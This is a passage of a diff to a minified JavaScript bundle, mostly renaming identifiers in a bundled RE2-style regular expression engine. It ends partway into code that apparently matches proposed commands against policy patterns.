-throw new qe(fe.ERR_MISSING_REPEAT_ARGUMENT,i.from(r));const l=this.newRegexp(e);if(l.min=n,l.max=s,l.flags=a,l.subs=[u],
-this.stack[c-1]=l,this.checkLimits(l),e===x.Op.REPEAT&&(n>=2||s>=2)&&!this.repeatIsValid(l,1e3))throw new qe(fe.ERR_INVALID_REPEAT_SIZE,
+0&&(i.more()&&i.lookingAt("?")&&(i.skip(1),a^=L.NON_GREEDY),o!==-1))throw new We(fe.ERR_INVALID_REPEAT_OP,i.from(o));const c=this.
+stack.length;if(c===0)throw new We(fe.ERR_MISSING_REPEAT_ARGUMENT,i.from(r));const u=this.stack[c-1];if(x.isPseudoOp(u.op))
+throw new We(fe.ERR_MISSING_REPEAT_ARGUMENT,i.from(r));const l=this.newRegexp(e);if(l.min=n,l.max=s,l.flags=a,l.subs=[u],
+this.stack[c-1]=l,this.checkLimits(l),e===x.Op.REPEAT&&(n>=2||s>=2)&&!this.repeatIsValid(l,1e3))throw new We(fe.ERR_INVALID_REPEAT_SIZE,
 i.from(r))}repeatIsValid(e,n){if(e.op===x.Op.REPEAT){let s=e.max;if(s===0)return!0;if(s<0&&(s=e.min),s>n)return!1;s>0&&(n=
 Math.trunc(n/s))}for(let s of e.subs)if(!this.repeatIsValid(s,n))return!1;return!0}concat(){this.maybeConcat(-1,0);const e=this.
 popToPseudo();return e.length===0?this.push(this.newRegexp(x.Op.EMPTY_MATCH)):this.push(this.collapse(e,x.Op.CONCAT))}alternate(){
 const e=this.popToPseudo();return e.length>0&&this.cleanAlt(e[e.length-1]),e.length===0?this.push(this.newRegexp(x.Op.NO_MATCH)):
-this.push(this.collapse(e,x.Op.ALTERNATE))}cleanAlt(e){e.op===x.Op.CHAR_CLASS&&(e.runes=new qn(Array.from(e.runes)).cleanClass().
+this.push(this.collapse(e,x.Op.ALTERNATE))}cleanAlt(e){e.op===x.Op.CHAR_CLASS&&(e.runes=new Wn(Array.from(e.runes)).cleanClass().
 toArray(),e.runes.length===2&&e.runes[0]===0&&e.runes[1]===se.MAX_RUNE?(e.runes=new Int32Array(0),e.op=x.Op.ANY_CHAR):e.
 runes.length===4&&e.runes[0]===0&&e.runes[1]===P.CODES[`
 `]-1&&e.runes[2]===P.CODES[`
@@ -6764,22 +6767,22 @@ pop()){case P.CODES["*"]:o=x.Op.STAR;break;case P.CODES["+"]:o=x.Op.PLUS;break;c
 o,n,s,i,r,e);break}case P.CODES["{"]:{const o=r.pos(),a=fe.parseRepeat(r);if(a<0){r.rewindTo(o),this.literal(r.pop());break}
 i=o,n=a>>16,s=(a&se.MAX_BMP)<<16>>16,this.repeat(x.Op.REPEAT,n,s,i,r,e);break}case P.CODES["\\"]:{const o=r.pos();if(r.skip(
 1),(this.flags&L.PERL_X)!==0&&r.more())switch(r.pop()){case P.CODES.A:this.op(x.Op.BEGIN_TEXT);break e;case P.CODES.b:this.
-op(x.Op.WORD_BOUNDARY);break e;case P.CODES.B:this.op(x.Op.NO_WORD_BOUNDARY);break e;case P.CODES.C:throw new qe(fe.ERR_INVALID_ESCAPE,
+op(x.Op.WORD_BOUNDARY);break e;case P.CODES.B:this.op(x.Op.NO_WORD_BOUNDARY);break e;case P.CODES.C:throw new We(fe.ERR_INVALID_ESCAPE,
 "\\C");case P.CODES.Q:{let u=r.rest();const l=u.indexOf("\\E");l>=0?(u=u.substring(0,l),r.skipString(u),r.skipString("\\E")):
 r.skipString(u);let d=0;for(;d<u.length;){const B=u.codePointAt(d);this.literal(B),d+=V.charCount(B)}break e}case P.CODES.
 z:this.op(x.Op.END_TEXT);break e;default:r.rewindTo(o)}else r.rewindTo(o);const a=this.newRegexp(x.Op.CHAR_CLASS);if(a.flags=
-this.flags,r.lookingAt("\\p")||r.lookingAt("\\P")){const u=new qn;if(this.parseUnicodeClass(r,u)){a.runes=u.toArray(),this.
-push(a);break e}}const c=new qn;if(this.parsePerlClassEscape(r,c)){a.runes=c.toArray(),this.push(a);break e}r.rewindTo(o),
+this.flags,r.lookingAt("\\p")||r.lookingAt("\\P")){const u=new Wn;if(this.parseUnicodeClass(r,u)){a.runes=u.toArray(),this.
+push(a);break e}}const c=new Wn;if(this.parsePerlClassEscape(r,c)){a.runes=c.toArray(),this.push(a);break e}r.rewindTo(o),
 this.reuse(a),this.literal(fe.parseEscape(r));break}default:this.literal(r.pop())}e=i}if(this.concat(),this.swapVerticalBar()&&
-this.pop(),this.alternate(),this.stack.length!==1)throw new qe(fe.ERR_MISSING_PAREN,this.wholeRegexp);return this.stack[0].
+this.pop(),this.alternate(),this.stack.length!==1)throw new We(fe.ERR_MISSING_PAREN,this.wholeRegexp);return this.stack[0].
 namedGroups=this.namedGroups,this.stack[0]}parsePerlFlags(e){const n=e.pos(),s=e.rest();if(s.startsWith("(?P<")||s.startsWith(
-"(?<")){const a=s.charAt(2)==="P"?4:3,c=s.indexOf(">");if(c<0)throw new qe(fe.ERR_INVALID_NAMED_CAPTURE,s);const u=s.substring(
-a,c);if(e.skipString(u),e.skip(a+1),!fe.isValidCaptureName(u))throw new qe(fe.ERR_INVALID_NAMED_CAPTURE,s.substring(0,c+
-1));const l=this.op(x.Op.LEFT_PAREN);if(l.cap=++this.numCap,this.namedGroups[u])throw new qe(fe.ERR_DUPLICATE_NAMED_CAPTURE,
+"(?<")){const a=s.charAt(2)==="P"?4:3,c=s.indexOf(">");if(c<0)throw new We(fe.ERR_INVALID_NAMED_CAPTURE,s);const u=s.substring(
+a,c);if(e.skipString(u),e.skip(a+1),!fe.isValidCaptureName(u))throw new We(fe.ERR_INVALID_NAMED_CAPTURE,s.substring(0,c+
+1));const l=this.op(x.Op.LEFT_PAREN);if(l.cap=++this.numCap,this.namedGroups[u])throw new We(fe.ERR_DUPLICATE_NAMED_CAPTURE,
 u);this.namedGroups[u]=this.numCap,l.name=u;return}e.skip(2);let r=this.flags,i=1,o=!1;e:for(;e.more();){const a=e.pop();
 switch(a){case P.CODES.i:r|=L.FOLD_CASE,o=!0;break;case P.CODES.m:r&=~L.ONE_LINE,o=!0;break;case P.CODES.s:r|=L.DOT_NL,o=
 !0;break;case P.CODES.U:r|=L.NON_GREEDY,o=!0;break;case P.CODES["-"]:if(i<0)break e;i=-1,r=~r,o=!1;break;case P.CODES[":"]:case P.
-CODES[")"]:if(i<0){if(!o)break e;r=~r}a===P.CODES[":"]&&this.op(x.Op.LEFT_PAREN),this.flags=r;return;default:break e}}throw new qe(
+CODES[")"]:if(i<0){if(!o)break e;r=~r}a===P.CODES[":"]&&this.op(x.Op.LEFT_PAREN),this.flags=r;return;default:break e}}throw new We(
 fe.ERR_INVALID_PERL_OP,e.from(n))}parsePosLookBehind(){const e=this.newRegexp(x.Op.LEFT_PAREN);return e.flags=this.flags,
 e.lb=++this.nlb,this.push(e)}parseNegLookBehind(){const e=this.newRegexp(x.Op.LEFT_PAREN);return e.flags=this.flags,e.lb=
 -++this.nlb,this.push(e)}parseVerticalBar(){this.concat(),this.swapVerticalBar()||this.op(x.Op.VERTICAL_BAR)}swapVerticalBar(){
@@ -6787,54 +6790,54 @@ const e=this.stack.length;if(e>=3&&this.stack[e-2].op===x.Op.VERTICAL_BAR&&fe.is
 this.stack[e-3])){let n=this.stack[e-1],s=this.stack[e-3];if(n.op>s.op){const r=s;s=n,n=r,this.stack[e-3]=s}return fe.mergeCharClass(
 s,n),this.reuse(n),this.pop(),!0}if(e>=2){const n=this.stack[e-1],s=this.stack[e-2];if(s.op===x.Op.VERTICAL_BAR)return e>=
 3&&this.cleanAlt(this.stack[e-3]),this.stack[e-2]=n,this.stack[e-1]=s,!0}return!1}parseRightParen(){if(this.concat(),this.
-swapVerticalBar()&&this.pop(),this.alternate(),this.stack.length<2)throw new qe(fe.ERR_UNEXPECTED_PAREN,this.wholeRegexp);
-const e=this.pop(),n=this.pop();if(n.op!==x.Op.LEFT_PAREN)throw new qe(fe.ERR_UNEXPECTED_PAREN,this.wholeRegexp);if(this.
-flags=n.flags,n.lb!==0){if(fe.hasCapture(e))throw new qe(fe.ERR_INVALID_CAPTURE_IN_LOOKBEHIND,this.wholeRegexp);n.lb>0?n.
+swapVerticalBar()&&this.pop(),this.alternate(),this.stack.length<2)throw new We(fe.ERR_UNEXPECTED_PAREN,this.wholeRegexp);
+const e=this.pop(),n=this.pop();if(n.op!==x.Op.LEFT_PAREN)throw new We(fe.ERR_UNEXPECTED_PAREN,this.wholeRegexp);if(this.
+flags=n.flags,n.lb!==0){if(fe.hasCapture(e))throw new We(fe.ERR_INVALID_CAPTURE_IN_LOOKBEHIND,this.wholeRegexp);n.lb>0?n.
 op=x.Op.PLB:n.op=x.Op.NLB,n.subs=[e],this.push(n);return}n.cap===0?this.push(e):(n.op=x.Op.CAPTURE,n.subs=[e],this.push(
 n))}parsePerlClassEscape(e,n){const s=e.pos();if((this.flags&L.PERL_X)===0||!e.more()||e.pop()!==P.CODES["\\"]||!e.more())
-return!1;e.pop();const r=e.from(s),i=wg.has(r)?wg.get(r):null;return i===null?!1:(n.appendGroup(i,(this.flags&L.FOLD_CASE)!==
+return!1;e.pop();const r=e.from(s),i=Cg.has(r)?Cg.get(r):null;return i===null?!1:(n.appendGroup(i,(this.flags&L.FOLD_CASE)!==
 0),!0)}parseNamedClass(e,n){const s=e.rest(),r=s.indexOf(":]");if(r<0)return!1;const i=s.substring(0,r+2);e.skipString(i);
-const o=Ng.has(i)?Ng.get(i):null;if(o===null)throw new qe(fe.ERR_INVALID_CHAR_RANGE,i);return n.appendGroup(o,(this.flags&
+const o=$g.has(i)?$g.get(i):null;if(o===null)throw new We(fe.ERR_INVALID_CHAR_RANGE,i);return n.appendGroup(o,(this.flags&
 L.FOLD_CASE)!==0),!0}parseUnicodeClass(e,n){const s=e.pos();if((this.flags&L.UNICODE_GROUPS)===0||!e.lookingAt("\\p")&&!e.
-lookingAt("\\P"))return!1;e.skip(1);let r=1,i=e.pop();if(i===P.CODES.P&&(r=-1),!e.more())throw e.rewindTo(s),new qe(fe.ERR_INVALID_CHAR_RANGE,
+lookingAt("\\P"))return!1;e.skip(1);let r=1,i=e.pop();if(i===P.CODES.P&&(r=-1),!e.more())throw e.rewindTo(s),new We(fe.ERR_INVALID_CHAR_RANGE,
 e.rest());i=e.pop();let o;if(i!==P.CODES["{"])o=V.runeToString(i);else{const l=e.rest(),d=l.indexOf("}");if(d<0)throw e.
-rewindTo(s),new qe(fe.ERR_INVALID_CHAR_RANGE,e.rest());o=l.substring(0,d),e.skipString(o),e.skip(1)}o.length!==0&&o.codePointAt(
-0)===P.CODES["^"]&&(r=0-r,o=o.substring(1));const a=fe.unicodeTable(o);if(a===null)throw new qe(fe.ERR_INVALID_CHAR_RANGE,
+rewindTo(s),new We(fe.ERR_INVALID_CHAR_RANGE,e.rest());o=l.substring(0,d),e.skipString(o),e.skip(1)}o.length!==0&&o.codePointAt(
+0)===P.CODES["^"]&&(r=0-r,o=o.substring(1));const a=fe.unicodeTable(o);if(a===null)throw new We(fe.ERR_INVALID_CHAR_RANGE,
 e.from(s));a.sign<0&&(r=0-r);const c=a.tab,u=a.fold;if((this.flags&L.FOLD_CASE)===0||u===null)n.appendTableWithSign(c,r);else{
-const l=new qn().appendTable(c).appendTable(u).cleanClass().toArray();n.appendClassWithSign(Array.from(l),r)}return!0}parseClass(e){
-const n=e.pos();e.skip(1);const s=this.newRegexp(x.Op.CHAR_CLASS);s.flags=this.flags;const r=new qn;let i=1;e.more()&&e.
+const l=new Wn().appendTable(c).appendTable(u).cleanClass().toArray();n.appendClassWithSign(Array.from(l),r)}return!0}parseClass(e){
+const n=e.pos();e.skip(1);const s=this.newRegexp(x.Op.CHAR_CLASS);s.flags=this.flags;const r=new Wn;let i=1;e.more()&&e.
 lookingAt("^")&&(i=-1,e.skip(1),(this.flags&L.CLASS_NL)===0&&r.appendRange(P.CODES[`
 `],P.CODES[`
 `]));let o=!0;for(;!e.more()||e.peek()!==P.CODES["]"]||o;){if(e.more()&&e.lookingAt("-")&&(this.flags&L.PERL_X)===0&&!o){
-const l=e.rest();if(l==="-"||!l.startsWith("-]"))throw e.rewindTo(n),new qe(fe.ERR_INVALID_CHAR_RANGE,e.rest())}o=!1;const a=e.
+const l=e.rest();if(l==="-"||!l.startsWith("-]"))throw e.rewindTo(n),new We(fe.ERR_INVALID_CHAR_RANGE,e.rest())}o=!1;const a=e.
 pos();if(e.lookingAt("[:")){if(this.parseNamedClass(e,r))continue;e.rewindTo(a)}if(this.parseUnicodeClass(e,r)||this.parsePerlClassEscape(
 e,r))continue;e.rewindTo(a);const c=fe.parseClassChar(e,n);let u=c;if(e.more()&&e.lookingAt("-")){if(e.skip(1),e.more()&&
-e.lookingAt("]"))e.skip(-1);else if(u=fe.parseClassChar(e,n),u<c)throw new qe(fe.ERR_INVALID_CHAR_RANGE,e.from(a))}(this.
+e.lookingAt("]"))e.skip(-1);else if(u=fe.parseClassChar(e,n),u<c)throw new We(fe.ERR_INVALID_CHAR_RANGE,e.from(a))}(this.
 flags&L.FOLD_CASE)===0?r.appendRange(c,u):r.appendFoldedRange(c,u)}e.skip(1),r.cleanClass(),i<0&&r.negateClass(),s.runes=
 r.toArray(),this.push(s)}},IN=class Xn{static initTest(e){const n=Xn.compile(e),s=new Xn(n.expr,n.prog,n.numSubexp,n.longest);
 return s.cond=n.cond,s.prefix=n.prefix,s.prefixUTF8=n.prefixUTF8,s.prefixComplete=n.prefixComplete,s.prefixRune=n.prefixRune,
 s.prefilter=n.prefilter,s.namedGroups=n.namedGroups,s}static compile(e){return Xn.compileImpl(e,L.PERL,!1)}static compilePOSIX(e){
-return Xn.compileImpl(e,L.POSIX,!0)}static compileImpl(e,n,s){let r=ir.parse(e,n);const i=r.maxCap(),o=r.namedGroups;r=mg.
-simplify(r);const a=ON.build(r),c=pg.compileRegexp(r),u=new Xn(e,c,i,s);u.prefilter=a.type===ve.Type.NONE?null:a;const[l,
+return Xn.compileImpl(e,L.POSIX,!0)}static compileImpl(e,n,s){let r=ir.parse(e,n);const i=r.maxCap(),o=r.namedGroups;r=hg.
+simplify(r);const a=ON.build(r),c=fg.compileRegexp(r),u=new Xn(e,c,i,s);u.prefilter=a.type===ve.Type.NONE?null:a;const[l,
 d]=c.prefix();return u.prefixComplete=l,u.prefix=d,u.prefixUTF8=V.stringToUtf8ByteArray(u.prefix),u.prefix.length>0&&(u.
 prefixRune=u.prefix.codePointAt(0)),u.namedGroups=o,u}static match(e,n){return Xn.compile(e).match(n)}constructor(e,n,s=0,r=0){
 this.expr=e,this.prog=n,this.numSubexp=s,this.longest=r,this.cond=n.startCond(),this.prefix=null,this.prefixUTF8=null,this.
 prefixComplete=!1,this.prefixRune=0,this.namedGroups=Object.create(null),this.machinePool=[],this.lazyDFA=null,this.onepass=
-Bg.compile(this.prog),this.prefilter=null}get dfa(){return this.lazyDFA===null&&(this.lazyDFA=new $c(this.prog)),this.lazyDFA}matchPrefixComplete(e,n,s,r){
+lg.compile(this.prog),this.prefilter=null}get dfa(){return this.lazyDFA===null&&(this.lazyDFA=new Ac(this.prog)),this.lazyDFA}matchPrefixComplete(e,n,s,r){
 if((s===L.ANCHOR_START||s===L.ANCHOR_BOTH)&&n!==0)return null;let i=-1,o=-1;const a=e.prefixLength(this);if(s===L.UNANCHORED){
 const c=e.index(this,n);if(c<0)return null;i=n+c,o=i+a}else if(s===L.ANCHOR_BOTH){if(e.endPos()!==a||e.index(this,0)!==0)
 return null;i=0,o=a}else if(s===L.ANCHOR_START){if(e.index(this,0)!==0)return null;i=0,o=a}if(i<0)return null;if(r>0){const c=new Int32Array(
 r).fill(-1);return c[0]=i,c[1]=o,Array.from(c)}return[]}createLookbehindState(){return this.prog.numLb>0?new gN(this.prog):
 null}executeEngine(e,n,s,r,i=null){if(this.prefixComplete&&(r===0||this.numSubexp===0))return this.matchPrefixComplete(e,
-n,s,r);if(this.prefilter!==null&&s===L.UNANCHORED&&!this.prefilter.eval(e,n))return null;if(this.onepass!==null)return Bg.
+n,s,r);if(this.prefilter!==null&&s===L.UNANCHORED&&!this.prefilter.eval(e,n))return null;if(this.onepass!==null)return lg.
 execute(this,e,n,s,r);if(r>0)return this.prog.numLb===0&&e.endPos()<=Ii.maxBitStateLen(this.prog)?Ii.execute(this,e,n,s,
 r):this.doExecuteNFA(e,n,s,r,i);if(this.prog.numLb===0){const o=this.dfa.match(e,n,s);if(o!==null)return o?[]:null;if(e.
 endPos()<=Ii.maxBitStateLen(this.prog))return Ii.execute(this,e,n,s,r)}return this.doExecuteNFA(e,n,s,r,i)}numberOfCapturingGroups(){
 return this.numSubexp}numberOfInstructions(){return this.prog.numInst()}get(){return this.machinePool.length>0?this.machinePool.
 pop():null}reset(){this.machinePool.length=0}put(e){this.machinePool.push(e)}toString(){return this.expr}doExecuteNFA(e,n,s,r,i=null){
-let o=this.get();o||(o=cg.fromRE2(this)),o.init(r);const a=o.match(e,n,s,i)?o.submatches():null;return this.put(o),a}match(e){
+let o=this.get();o||(o=og.fromRE2(this)),o.init(r);const a=o.match(e,n,s,i)?o.submatches():null;return this.put(o),a}match(e){
 return this.executeEngine(Je.fromUTF16(e),0,L.UNANCHORED,0)!==null}matchWithGroup(e,n,s,r,i,o=null){return e instanceof Kn||
-(V.isByteArray(e)?e=Wn.utf8(e):e=Wn.utf16(e)),this.matchMachineInput(e,n,s,r,i,o)}matchMachineInput(e,n,s,r,i,o=null){if(n>
+(V.isByteArray(e)?e=qn.utf8(e):e=qn.utf16(e)),this.matchMachineInput(e,n,s,r,i,o)}matchMachineInput(e,n,s,r,i,o=null){if(n>
 s)return[!1,null];const a=e.isUTF16Encoding()?Je.fromUTF16(e.asCharSequence(),0,s):Je.fromUTF8(e.asBytes(),0,s),c=this.executeEngine(
 a,n,r,2*i,o);return c===null?[!1,null]:[!0,c]}matchUTF8(e){return this.executeEngine(Je.fromUTF8(e),0,L.UNANCHORED,0)!==
 null}replaceAll(e,n){return this.replaceAllFunc(e,()=>n,2*e.length+1)}replaceFirst(e,n){return this.replaceAllFunc(e,()=>n,
@@ -6863,19 +6866,19 @@ for(let o=0;o<i.length;o++)r[2*o]>=0&&(i[o]=e.slice(r[2*o],r[2*o+1]));return i})
 const s=this.allMatches(Je.fromUTF8(e),n);return s.length===0?null:s}findAllSubmatch(e,n){const s=this.allMatches(Je.fromUTF16(
 e),n,r=>{let i=new Array(r.length/2|0).fill(null);for(let o=0;o<i.length;o++)r[2*o]>=0&&(i[o]=e.substring(r[2*o],r[2*o+1]));
 return i});return s.length===0?null:s}findAllSubmatchIndex(e,n){const s=this.allMatches(Je.fromUTF16(e),n);return s.length===
-0?null:s}},Zz=class Qn{static UNANCHORED=L.UNANCHORED;static ANCHOR_START=L.ANCHOR_START;static ANCHOR_BOTH=L.ANCHOR_BOTH;constructor(e=Qn.
-UNANCHORED,n=0,s=8388608){if(![Qn.UNANCHORED,Qn.ANCHOR_START,Qn.ANCHOR_BOTH].includes(e))throw new ng("The anchor should\
+0?null:s}},Kz=class Qn{static UNANCHORED=L.UNANCHORED;static ANCHOR_START=L.ANCHOR_START;static ANCHOR_BOTH=L.ANCHOR_BOTH;constructor(e=Qn.
+UNANCHORED,n=0,s=8388608){if(![Qn.UNANCHORED,Qn.ANCHOR_START,Qn.ANCHOR_BOTH].includes(e))throw new eg("The anchor should\
  be RE2Set.UNANCHORED, RE2Set.ANCHOR_START or RE2Set.ANCHOR_BOTH");V.checkFlags(n),this.anchor=e,this.jsFlags=n,this.maxMem=
 s;let r=L.PERL;(n&Ct.DISABLE_UNICODE_GROUPS)!==0&&(r&=~L.UNICODE_GROUPS),(n&Ct.LOOKBEHINDS)!==0&&(r|=L.LOOKBEHIND),this.
 re2Flags=r,this.regexps=[],this.prog=null,this.dfa=null,this.dummyRe2=null}add(e){if(this.prog)throw new sr("Cannot add \
 patterns after compile");V.checkPattern(e);let n=e;(this.jsFlags&Ct.CASE_INSENSITIVE)!==0&&(n=`(?i)${n}`),(this.jsFlags&
 Ct.DOTALL)!==0&&(n=`(?s)${n}`),(this.jsFlags&Ct.MULTILINE)!==0&&(n=`(?m)${n}`);const s=ir.parse(n,this.re2Flags);return this.
-regexps.push(mg.simplify(s)),this.regexps.length-1}compile(){if(this.prog)return;const e=pg.compileSet(this.regexps);if(e.
+regexps.push(hg.simplify(s)),this.regexps.length-1}compile(){if(this.prog)return;const e=fg.compileSet(this.regexps);if(e.
 numInst()>ir.MAX_SIZE)throw new sr(`${ir.ERR_LARGE}: the set compiles to ${e.numInst()} instructions, more than ${ir.MAX_SIZE}`);
-this.prog=e,this.dfa=new $c(this.prog,this.maxMem),this.dummyRe2={prog:this.prog,cond:this.prog.startCond(),prefix:"",prefixRune:0,
+this.prog=e,this.dfa=new Ac(this.prog,this.maxMem),this.dummyRe2={prog:this.prog,cond:this.prog.startCond(),prefix:"",prefixRune:0,
 longest:!1}}match(e){this.prog||this.compile();const n=V.isByteArray(e)?Je.fromUTF8(e):Je.fromUTF16(e);let s=L.UNANCHORED;
 this.anchor===Qn.ANCHOR_START?s=L.ANCHOR_START:this.anchor===Qn.ANCHOR_BOTH&&(s=L.ANCHOR_BOTH);const r=this.dfa.matchSet(
-n,0,s);if(r!==null)return r;const i=cg.fromRE2(this.dummyRe2);return i.init(0),i.matchSet(n,0,s)}},$N=class Es{static isHexadecimal(e){
+n,0,s);if(r!==null)return r;const i=og.fromRE2(this.dummyRe2);return i.init(0),i.matchSet(n,0,s)}},$N=class Es{static isHexadecimal(e){
 return"0"<=e&&e<="9"||"A"<=e&&e<="F"||"a"<=e&&e<="f"}static translate(e){let n="";if(Object.prototype.toString.call(e)===
 "[object RegExp]"&&(e.ignoreCase&&(n+="i"),e.multiline&&(n+="m"),e.dotAll&&(n+="s"),e=e.source),typeof e!="string")return e;
 let s="",r=!1,i=e.length;i===0&&(s="(?:)",r=!0);let o=!1,a=0;for(;a<i;){let u=e[a];if(u==="\\"){if(a+1<i)switch(u=e[a+1],
@@ -6893,54 +6896,54 @@ charCount(B);s+=e.substring(a+1,a+1+f),a+=f+1,r=!0}else{s+="\\";let f=V.charCoun
 "/"){s+="\\/",a+=1,r=!0;continue}else if(u==="["){if(!o&&e[a+1]==="]"){s+="[^\\x00-\\x{10FFFF}]",a+=2,r=!0;continue}if(!o&&
 e[a+1]==="^"&&e[a+2]==="]"){s+="[\\x00-\\x{10FFFF}]",a+=3,r=!0;continue}o=!0}else if(u==="]")o=!1;else if(!o&&u==="("&&a+
 2<i&&e[a+1]==="?"&&e[a+2]==="<"&&a+3<i&&!"=!>)".includes(e[a+3])){s+="(?P<",a+=3,r=!0;continue}let l=e.codePointAt(a),d=V.
-charCount(l);s+=e.substring(a,a+d),a+=d}const c=r?s:e;return n.length>0?`(?${n})${c}`:c}};const Fg=(t,e)=>{const n=t.matchArray();
-return n.index=t.start(0),n.input=e,n.groups=t.namedGroupsObject(),n};var Vn=class en{static CASE_INSENSITIVE=Ct.CASE_INSENSITIVE;static DOTALL=Ct.
+charCount(l);s+=e.substring(a,a+d),a+=d}const c=r?s:e;return n.length>0?`(?${n})${c}`:c}};const Rg=(t,e)=>{const n=t.matchArray();
+return n.index=t.start(0),n.input=e,n.groups=t.namedGroupsObject(),n};var Vn=class tn{static CASE_INSENSITIVE=Ct.CASE_INSENSITIVE;static DOTALL=Ct.
 DOTALL;static MULTILINE=Ct.MULTILINE;static DISABLE_UNICODE_GROUPS=Ct.DISABLE_UNICODE_GROUPS;static LONGEST_MATCH=Ct.LONGEST_MATCH;static LOOKBEHINDS=Ct.
-LOOKBEHINDS;static quote(e){return V.quoteMeta(e)}static quoteReplacement(e,n=!1){return og.quoteReplacement(e,n)}static translateRegExp(e){
-return $N.translate(e)}static compile(e,n=0){V.checkPattern(e),V.checkFlags(n);let s=e;(n&en.CASE_INSENSITIVE)!==0&&(s=`\
-(?i)${s}`),(n&en.DOTALL)!==0&&(s=`(?s)${s}`),(n&en.MULTILINE)!==0&&(s=`(?m)${s}`);let r=L.PERL;(n&en.DISABLE_UNICODE_GROUPS)!==
-0&&(r&=~L.UNICODE_GROUPS),(n&en.LOOKBEHINDS)!==0&&(r|=L.LOOKBEHIND);const i=new en(e,n);return i.re2Input=IN.compileImpl(
-s,r,(n&en.LONGEST_MATCH)!==0),i}static matches(e,n){return en.compile(e).testExact(n)}static initTest(e,n,s){if(e==null)
-throw new Error("pattern is null");if(s==null)throw new Error("re2 is null");const r=new en(e,n);return r.re2Input=s,r}constructor(e,n){
+LOOKBEHINDS;static quote(e){return V.quoteMeta(e)}static quoteReplacement(e,n=!1){return rg.quoteReplacement(e,n)}static translateRegExp(e){
+return $N.translate(e)}static compile(e,n=0){V.checkPattern(e),V.checkFlags(n);let s=e;(n&tn.CASE_INSENSITIVE)!==0&&(s=`\
+(?i)${s}`),(n&tn.DOTALL)!==0&&(s=`(?s)${s}`),(n&tn.MULTILINE)!==0&&(s=`(?m)${s}`);let r=L.PERL;(n&tn.DISABLE_UNICODE_GROUPS)!==
+0&&(r&=~L.UNICODE_GROUPS),(n&tn.LOOKBEHINDS)!==0&&(r|=L.LOOKBEHIND);const i=new tn(e,n);return i.re2Input=IN.compileImpl(
+s,r,(n&tn.LONGEST_MATCH)!==0),i}static matches(e,n){return tn.compile(e).testExact(n)}static initTest(e,n,s){if(e==null)
+throw new Error("pattern is null");if(s==null)throw new Error("re2 is null");const r=new tn(e,n);return r.re2Input=s,r}constructor(e,n){
 this.patternInput=e,this.flagsInput=n,this.re2Input=null}reset(){this.re2Input.reset()}flags(){return this.flagsInput}pattern(){
 return this.patternInput}re2(){return this.re2Input}matches(e){return this.testExact(e)}matcher(e){return V.isByteArray(
-e)&&(e=Wn.utf8(e)),new og(this,e)}test(e){return V.isByteArray(e)?this.re2Input.matchUTF8(e):this.re2Input.match(e)}testExact(e){
+e)&&(e=qn.utf8(e)),new rg(this,e)}test(e){return V.isByteArray(e)?this.re2Input.matchUTF8(e):this.re2Input.match(e)}testExact(e){
 const n=V.isByteArray(e)?Je.fromUTF8(e):Je.fromUTF16(e);return this.re2Input.executeEngine(n,0,L.ANCHOR_BOTH,0)!==null}exec(e){
-const n=this.matcher(e);return n.find()?Fg(n,e):null}split(e,n=0){const s=this.matcher(e),r=[];let i=0,o=0;for(;s.find();){
+const n=this.matcher(e);return n.find()?Rg(n,e):null}split(e,n=0){const s=this.matcher(e),r=[];let i=0,o=0;for(;s.find();){
 if(o===0&&s.end()===0){o=s.end();continue}if(n>0&&r.length===n-1)break;if(o===s.start()){if(n===0){i+=1,o=s.end();continue}}else
 for(;i>0;)r.push(""),i-=1;r.push(s.substring(o,s.start())),o=s.end()}if(n===0&&o!==s.inputLength()){for(;i>0;)r.push(""),
 i-=1;r.push(s.substring(o,s.inputLength()))}return(n!==0||r.length===0&&!(o===s.inputLength()&&o>0))&&r.push(s.substring(
-o,s.inputLength())),r}*matchAll(e){const n=this.matcher(e);for(;n.find();)yield Fg(n,e)}toString(){return this.patternInput}programSize(){
+o,s.inputLength())),r}*matchAll(e){const n=this.matcher(e);for(;n.find();)yield Rg(n,e)}toString(){return this.patternInput}programSize(){
 return this.re2Input.numberOfInstructions()}groupCount(){return this.re2Input.numberOfCapturingGroups()}namedGroups(){return this.
 re2Input.namedGroups}equals(e){return this===e?!0:e===null||this.constructor!==e.constructor?!1:this.flagsInput===e.flagsInput&&
-this.patternInput===e.patternInput}};function Kz(t,...e){if(Array.isArray(t)&&"raw"in t){const s=String.raw(t,...e);return Vn.
-compile(s)}const n=typeof t=="number"?t:0;return(s,...r)=>{const i=String.raw(s,...r);return Vn.compile(i,n)}}const Lg=1e3;
-function Pg(t,{ignoreCase:e,multiline:n,dotAll:s}={}){if(t.length>Lg)return{error:`is longer than ${Lg} characters`};try{
+this.patternInput===e.patternInput}};function qz(t,...e){if(Array.isArray(t)&&"raw"in t){const s=String.raw(t,...e);return Vn.
+compile(s)}const n=typeof t=="number"?t:0;return(s,...r)=>{const i=String.raw(s,...r);return Vn.compile(i,n)}}const Ng=1e3;
+function Fg(t,{ignoreCase:e,multiline:n,dotAll:s}={}){if(t.length>Ng)return{error:`is longer than ${Ng} characters`};try{
 const r=Vn.compile(t,(e?Vn.CASE_INSENSITIVE:0)|(n?Vn.MULTILINE:0)|(s?Vn.DOTALL:0));return{matches:i=>r.test(i)}}catch(r){
 return{error:r.message}}}const RN=/^\s*([A-Za-z_]\w*)\(\s*([^\n]*?)\s*\)\s*$/d,NN=/^\s*(?:'([^'"\\\n]*)'|"([^'"\\\n]*)")\s*(?:,|$)/;
 function FN(t){const e=RN.exec(t);if(e===null)return;const[,n="",s=""]=e,r=[];let i=e.indices?.[2]?.[0]??0,o=s;for(;o!==
 "";){const a=NN.exec(o);if(a===null)return;const[c,u,l]=a;r.push({text:u??l??"",span:{start:i,end:i+c.length}}),o=o.slice(
-c.length),i+=c.length}return{name:n,args:r}}const LN=(t,e,n)=>n.proposal.tool==="runpy"?JN(t,e,n):PN(t,Mm(e,t),n);function PN(t,e,n){
-const{families:s,patterns:r,disabled_packs:i}=n.policy,o=new Dc(n),a=Jt(t.command),c=g=>g.map(C=>jg(C,s,i)),u=c(Qt(a)),l=g=>u.
-flatMap(C=>{const b=Zg(C);return r.filter(y=>y.layer===g&&Jg(y.regex,b)).map(({name:y,regex:D,reason:O})=>(0,Oe.gk)("cus\
+c.length),i+=c.length}return{name:n,args:r}}const LN=(t,e,n)=>n.proposal.tool==="runpy"?JN(t,e,n):PN(t,Pm(e,t),n);function PN(t,e,n){
+const{families:s,patterns:r,disabled_packs:i}=n.policy,o=new _c(n),a=Zt(t.command),c=g=>g.map(C=>Lg(C,s,i)),u=c(en(a)),l=g=>u.
